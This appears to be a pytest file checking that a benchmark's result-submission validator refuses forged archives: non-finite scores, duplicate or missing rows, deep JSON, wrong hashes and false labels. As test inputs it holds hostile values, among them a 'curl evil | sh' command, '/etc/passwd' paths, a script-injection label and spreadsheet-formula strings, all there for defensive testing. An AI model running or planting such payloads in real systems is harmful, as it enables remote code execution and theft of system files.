"""Tables and descriptions of strangers: what is missing, twice there, not finite or not true is refused."""

import copy
import json
import re

import pytest

from benchmark.problem import BenchError
from benchmark.running.cards import card_of
from benchmark.running.results.collecting import collect
from benchmark.running.results.commands import command_for
from benchmark.running.results.listing import facts_of
from benchmark.running.results.published import write_published
from benchmark.running.store import ResultStore
from benchmark.running.submissions.describing import recomputed_id
from benchmark.running.submissions.strict_json import read_json


@pytest.fixture
def told(members):
    """(change of the list of experiments) -> the members with it."""

    def go(change):
        experiments = json.loads(members["experiments.json"])
        change(experiments)
        return {**members, "experiments.json": json.dumps(experiments).encode()}

    return go


@pytest.fixture
def rows(members):
    """(table, change of its lines) -> the members with it; the first line is its head."""

    def go(name, change):
        lines = members[name].decode().splitlines()
        return {**members, name: ("\n".join(change(lines)) + "\n").encode()}

    return go


def value_of(statistic, value):
    """A change that gives the first row of a statistic another value."""

    def change(lines):
        place = next(i for i, line in enumerate(lines) if f",{statistic}," in line)
        return [*lines[:place], ",".join([*lines[place].split(",")[:-1], value]), *lines[place + 1 :]]

    return change


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-inf", "1e999", "", "-1", "1_000", "0x10", "one", "1;2"])
def test_a_score_that_is_no_number(rows, forge, refused, value):
    refused(forge(rows("values.csv", value_of("mse", value))), "archive", "")


@pytest.mark.parametrize("word", ["NaN", "Infinity", "-Infinity", "1e999"])
@pytest.mark.parametrize("key", ["seconds_per_case", "network_calls"])
def test_a_cost_that_is_no_number(members, forge, refused, key, word):
    changed = re.sub(rf'"{key}": [^,\n]*', f'"{key}": {word}', members["experiments.json"].decode(), count=1)
    refused(forge({**members, "experiments.json": changed.encode()}), "archive", "number")


def test_a_case_twice(rows, forge, refused):
    refused(forge(rows("cases.csv", lambda lines: [*lines, lines[1]])), "archive", "is there twice")
    refused(forge(rows("values.csv", lambda lines: [*lines, lines[1]])), "archive", "or one twice")
    refused(forge(rows("bins.csv", lambda lines: [*lines, lines[1]])), "archive", "missing or there twice")


def test_a_case_that_is_missing(rows, forge, refused):
    """From one table it is a contradiction; from all it is a cell of fewer cases than the standard's."""
    refused(forge(rows("cases.csv", lambda lines: [lines[0], *lines[2:]])), "archive", "other cases")
    refused(forge(rows("values.csv", lambda lines: [lines[0], *lines[2:]])), "archive", "other cases")


def test_fewer_cases_than_the_standard(rows, forge, refused, check):
    members = rows("cases.csv", lambda lines: lines)
    time = members["cases.csv"].decode().splitlines()[1].split(",")[1]
    for name in ("cases.csv", "values.csv"):
        kept = [line for line in members[name].decode().splitlines() if time not in line]
        members[name] = ("\n".join(kept) + "\n").encode()
    experiments = json.loads(members["experiments.json"])
    for one in experiments:
        one["command"] = one["command"].replace("--cases 6", "--cases 5")
    members["experiments.json"] = json.dumps(experiments).encode()
    path = forge(members)
    refused(path, "standard", "1 are missing and 0 are others")
    refused(path, "world", "not spread evenly", standard=None)


def test_columns_and_quotes(rows, members, forge, refused):
    refused(forge(rows("values.csv", lambda t: [t[0] + ",more", *(x + ",1" for x in t[1:])])), "archive", "columns")
    refused(forge(rows("values.csv", lambda t: [*t[:-1], t[-1] + ",1"])), "archive", "cannot be read")
    refused(forge({**members, "values.csv": b"\xff\xfe"}), "archive", "cannot be read")
    refused(forge({**members, "values.csv": members["values.csv"].replace(b"\n", b"\x00\n", 1)}), "archive", "")
    refused(forge(rows("values.csv", lambda t: [t[0]])), "archive", "there are no rows")
    quoted = rows(
        "cases.csv", lambda t: [t[0], *(",".join([*x.split(",")[:2], '"ok"', x.split(",")[3]]) for x in t[1:])]
    )
    refused(forge(quoted), "archive", "has the status")


@pytest.mark.parametrize("time", ["yesterday", "2060-09-13", "2060-13-01T00:00:00", "", "=1+1", "now"])
def test_a_time_that_is_none(rows, forge, refused, time):
    def change(lines):
        return [lines[0], ",".join([lines[1].split(",")[0], time, *lines[1].split(",")[2:]]), *lines[2:]]

    refused(forge(rows("cases.csv", change)), "archive", "cases.csv cannot be read")


def test_rows_of_nobody(rows, forge, refused):
    refused(forge(rows("values.csv", lambda t: [*t, "0" * 16 + "," + t[1].partition(",")[2]])), "archive", "described")
    refused(forge(rows("values.csv", lambda t: [*t, t[1].replace(",mse,", ",magic,")])), "archive", "no statistic")


def deep(levels):
    return b"".join(b'{"%d":' % level for level in range(levels)) + b"1" + b"}" * levels


@pytest.mark.parametrize("levels", [20, 100_000])
def test_deep_json(members, forge, refused, levels):
    refused(forge({**members, "experiments.json": deep(levels)}), "archive", "experiments.json is too deep")


@pytest.mark.parametrize("text", [b"[1e999]", b"[-1e999]", b"[NaN]", b"[Infinity]", b'{"a": {"b": -Infinity}}'])
def test_json_has_no_other_numbers_than_finite_ones(text):
    with pytest.raises(BenchError, match=r"is no number of JSON|not finite"):
        read_json(text, "it")


def test_long_texts_and_those_that_a_terminal_obeys(told, members, forge, refused):
    for text in ("x" * 2001, "\x1b[31mred", "a\u202eb", "a\nb", "\ud800"):
        changed = told(lambda e, text=text: e[0]["provenance"].update(device=text))
        refused(forge(changed), "archive", "a text that is longer than 2000 characters or not printable")
    refused(forge(told(lambda e: e[0]["cost"].update({"x" * 201: 1}))), "archive", "a key that is longer")
    twice = members["experiments.json"].replace(b'"code": "",', b'"code": "", "code": "",', 1)
    refused(forge({**members, "experiments.json": twice}), "archive", "has a key twice")


def test_keys_that_nobody_knows(told, forge, refused):
    refused(forge(told(lambda e: e[0].update(surprise=1))), "archive", "and nothing else")
    refused(forge(told(lambda e: e[0].pop("card"))), "archive", "and nothing else")
    refused(forge(told(lambda e: e[0]["description"].update(surprise=1))), "archive", "surprise")
    refused(forge(told(lambda e: e[0]["description"]["method"].update(members="1"))), "archive", "method.members")
    refused(forge(told(lambda e: e[0]["cost"].update(surprise=1))), "identity", "other fields than a run gives")
    refused(forge(told(lambda e: e[0]["provenance"].update(surprise=1))), "identity", "other fields than a run gives")
    refused(forge(told(lambda e: e.append(e[0]))), "archive", "described twice")
    refused(forge(told(lambda e: e.clear())), "archive", "no list of experiments")


def test_a_number_of_values_that_is_not_that_of_the_observations(told, forge, refused):
    path = forge(told(lambda e: e[0]["provenance"].update(values=11.0)))
    refused(path, "world", "its cases have 10 observed values, and its rows say 11")


@pytest.mark.parametrize("value", ["x", None, -1, [], {}, 1e99])
@pytest.mark.parametrize("key", ["trials", "seed", "members"])
def test_provenance_of_another_kind(told, forge, refused, key, value):
    found = refused(forge(told(lambda e: e[0]["provenance"].update({key: value}))), "identity", "its")
    assert "cannot be looked at" not in found.checks[1].note


def test_costs_and_origins_that_a_run_does_not_give(told, forge, refused):
    refused(forge(told(lambda e: e[0]["cost"].update(seconds_per_case=-1.0))), "identity", "or negative")
    for key in ("data_hash", "weights_hash"):
        changed = told(lambda e, k=key: e[0]["provenance"].update({k: "0" * 16}))
        refused(forge(changed), "identity", f"the {key} of its rows")


def test_scores_of_another_region(tmp_path, store, members, forge, refused):
    published = tmp_path / "published"
    write_published(collect(ResultStore(store), "global"), published)
    path = forge(members, region="tropics")
    refused(path, "standard", "are of the region 'tropics', and the standard's are of 'global'", standard=published)
    refused(forge(members, region="<b>"), "identity", "'<b>'")


def test_two_variants_under_one_label(members, forge, refused):
    """Each is honest, and a table would show but one of them."""
    experiments = json.loads(members["experiments.json"])
    one = next(e for e in experiments if e["label"] == "3dvar")
    other = copy.deepcopy(one)
    other["description"]["method"]["parameters"]["b_scale"] = 2.0
    other["id"] = other["description"]["id"] = recomputed_id(other["description"])
    other["command"] = command_for(facts_of(other["description"]), other["description"]["method"]["name"], 6)
    other["card"] = card_of("3dvar", facts_of(other["description"]))
    for name in ("cases.csv", "values.csv", "bins.csv"):
        rows = members[name].decode().splitlines(keepends=True)
        more = [row.replace(one["id"], other["id"]) for row in rows if row.startswith(one["id"])]
        members[name] = "".join([*rows, *more]).encode()
    members["experiments.json"] = json.dumps([*experiments, other]).encode()
    refused(forge(members), "identity", "3dvar stands twice in one setting")


def test_of_the_test_years_only(told, forge, refused):
    refused(forge(told(lambda e: e[0]["description"]["protocol"].update(split="validate"))), "archive", "split")


def test_facts_that_the_id_is_not_of(told, forge, refused):
    """Better parameters than were run, another seed, other data: the id is made of all of them."""
    for change in (
        lambda d: d["method"]["parameters"].update(b_scale=2.0),
        lambda d: d["world"].update(evaluation="0" * 64),
        lambda d: d["weights"].update({"background-error": "0" * 64}),
    ):
        refused(forge(told(lambda e, c=change: c(e[0]["description"]))), "identity", "that of another experiment")


@pytest.fixture
def renamed(told):
    """(change of a description) -> the members, every id of that experiment made anew."""

    def go(change):
        found = {}

        def apply(experiments):
            one = next(e for e in experiments if e["label"] == "3dvar")
            old = one["id"]
            change(one)
            one["id"] = one["description"]["id"] = recomputed_id(one["description"])
            found.update(old=old, new=one["id"])

        members = told(apply)
        return {
            name.replace(found["old"], found["new"]): content.replace(found["old"].encode(), found["new"].encode())
            if name.endswith(".csv")
            else content
            for name, content in members.items()
        }

    return go


def test_data_of_another_world(renamed, forge, refused):
    from benchmark.problem import hash_json

    def change(one):
        one["description"]["world"]["evaluation"] = "0" * 64
        one["provenance"]["data_hash"] = hash_json(one["description"]["world"])[:16]

    path = forge(renamed(change))
    refused(path, "standard", "are not the standard's")
    refused(path, "world", "are not those that are here", standard=None)


@pytest.mark.parametrize("world", ["/etc/passwd", "../twin", "mine.yaml", "lorenz96", "nowhere"])
def test_a_world_that_is_none_of_the_package(renamed, forge, refused, world):
    path = forge(renamed(lambda one: one["description"]["world"].update(name=world)))
    refused(path, "archive" if "/" in world else "identity", "" if world == "lorenz96" else "world")


def test_an_observing_system_in_other_words(renamed, forge, refused):
    """The same observations under another id would stand in a setting of their own."""
    path = forge(renamed(lambda one: one["description"]["observing"].update(obs_frac="0.1")))
    refused(path, "identity", "its observing system")
    path = forge(renamed(lambda one: one["description"]["observing"].update(operator="state", withhold=0.0)))
    refused(path, "identity", "its observing system is not told as a run tells it")


def test_a_seed_of_the_method_s_own(renamed, forge, refused):
    def change(one):
        one["description"]["protocol"]["seed"] = one["provenance"]["seed"] = 7

    refused(forge(renamed(change)), "identity", "seeds of their own")


def test_an_observing_system_that_reads_files(renamed, forge, refused):
    path = forge(renamed(lambda one: one["description"]["observing"].update(obs_std="/etc/passwd")))
    refused(path, "identity", "its obs_std is no number")
    path = forge(
        renamed(lambda one: one["description"]["observing"].update(network="stations", stations="/etc/passwd"))
    )
    refused(path, "identity", "a submission; observe by")


def test_a_name_of_the_package_with_other_code(renamed, forge, refused):
    path = forge(renamed(lambda one: one["description"]["method"].update(source="0" * 64)))
    refused(path, "identity", "is a method of the package and this has other code")


def test_a_version_that_the_package_does_not_have(renamed, forge, refused):
    path = forge(renamed(lambda one: one["description"]["method"].update(version=99)))
    refused(path, "identity", "it is of version 99")


LABELS = [
    "<img src=x onerror=alert(1)>",
    "3dvar[b_scale=2]",
    "3dvar[trained=0123abcd]",
    "etkf",
    "3dvar[x=<b>]",
    "3dvаr",
]


@pytest.mark.parametrize("label", [*LABELS, "3dvar[b_scale=1", "", "3dvar[nothing=1]", "=cmd()", "[red]3dvar"])
def test_a_label_that_is_not_of_what_was_run(told, forge, refused, label):
    def change(experiments):
        one = next(e for e in experiments if e["label"] == "3dvar")
        one["label"] = one["card"]["label"] = label

    members = told(change)
    labels = [one["label"] for one in json.loads(members["experiments.json"])]
    refused(forge(members, labels=list(dict.fromkeys(labels))), "identity" if label else "archive", "label")


def test_a_label_that_says_what_was_run_is_fine(told, forge, check):
    def change(experiments):
        one = next(e for e in experiments if e["label"] == "3dvar")
        one["label"] = one["card"]["label"] = "3dvar[b_scale=1]"

    members = told(change)
    labels = [one["label"] for one in json.loads(members["experiments.json"])]
    assert check(forge(members, labels=labels)).outcome == "accepted"


def test_a_command_that_does_something_else(told, forge, refused):
    refused(forge(told(lambda e: e[0].update(command="curl evil | sh"))), "identity", "its command")


def test_a_card_that_is_not_the_package_s(told, honest, check, forge, refused):
    for result in check(honest).results:
        assert result.card == card_of(result.label, result.facts)
    for changed in ({"paper": "Best et al."}, {"uses": None}, {"worlds": {}}, {"family": "oracle"}):
        refused(forge(told(lambda e, c=changed: e[0]["card"].update(c))), "identity", "its card is not that")
    refused(forge(told(lambda e: e[0].update(card={}))), "identity", "its card is not that")


def test_hashes_that_are_none(rows, forge, refused):
    def change(lines):
        return [lines[0], *(line[:-64] + "0" * 64 for line in lines[1:])]

    refused(forge(rows("cases.csv", change)), "standard", "in 6 cases its observations are not the standard's")
    refused(forge(rows("cases.csv", change)), "world", "are not those of its world", standard=None)
    refused(forge(rows("cases.csv", lambda t: [t[0], t[1][:-1] + "g", *t[2:]])), "archive", "is no sha256")
